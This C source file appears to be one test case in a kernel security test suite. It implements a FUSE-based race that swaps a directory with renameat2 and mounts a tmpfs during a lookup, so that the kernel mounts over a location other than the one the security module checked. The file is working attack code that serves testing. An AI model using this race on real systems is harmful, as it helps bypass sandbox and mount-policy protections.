// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Binds a folder, whose name the attacker's own file system looks up (FUSE): the kernel asks security modules about the place, and then
 * waits for that. Meanwhile the place is exchanged for one that leads to ours, and an empty file system comes to lie on it.
 * Success: the kernel's list isn't where it was.
 */
#include "namespaces.h"
#include <linux/fuse.h>
#include <pthread.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#define FUSE SCRATCH "/fuse"
#define PLACE SCRATCH "/place"
#define OTHER SCRATCH "/other"

static int device;

static void answer(uint64_t to, int error, const void *data, size_t size)
{
	static char buffer[512];
	struct fuse_out_header head = { .len = sizeof(head) + size, .error = -error, .unique = to };

	memcpy(buffer, &head, sizeof(head));
	memcpy(buffer + sizeof(head), data, size);
	(void)!write(device, buffer, head.len);
}

static void exchange(void)
{
	act("rename", renameat2(AT_FDCWD, PLACE, AT_FDCWD, OTHER, RENAME_EXCHANGE));
	act("mount", mount("empty", OTHER, "tmpfs", 0, NULL));
}

static void *serve(void *unused)
{
	static char request[FUSE_MIN_READ_BUFFER * 2];
	const struct fuse_in_header *asked = (void *)request;
	const struct fuse_attr folder = { .ino = 2, .mode = S_IFDIR | 0755, .nlink = 2 };

	while (read(device, request, sizeof(request)) > 0) {
		struct fuse_init_out version = { .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096 };
		struct fuse_entry_out found = { .nodeid = 2, .attr = folder };
		struct fuse_attr_out attributes = { .attr = folder };

		switch (asked->opcode) {
		case FUSE_INIT:
			answer(asked->unique, 0, &version, sizeof(version));
			break;
		case FUSE_LOOKUP:
			exchange();
			answer(asked->unique, 0, &found, sizeof(found));
			break;
		case FUSE_GETATTR:
			answer(asked->unique, 0, &attributes, sizeof(attributes));
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
			break;
		default:
			answer(asked->unique, ENOSYS, NULL, 0);
		}
	}
	return unused;
}

static void run(void)
{
	char options[96];
	pthread_t thread;

	device = must("open /dev/fuse", open("/dev/fuse", O_RDWR | O_CLOEXEC));
	must("mkdir", mkdir(FUSE, 0755));
	must("mkdir", mkdir(PLACE, 0755));
	must("symlink", symlink(OURS, OTHER));
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
	must("mount of FUSE", mount("attack", FUSE, "fuse", 0, options));
	must("pthread_create", -pthread_create(&thread, NULL, serve, NULL));
	act("mount --bind", mount(FUSE "/folder", PLACE, NULL, MS_BIND, NULL));
	act("mount --bind", mount(FUSE, OURS, NULL, MS_BIND, NULL));
}

ATTACK("exchanges the place of a mount while the kernel waits for its source", .run = run);
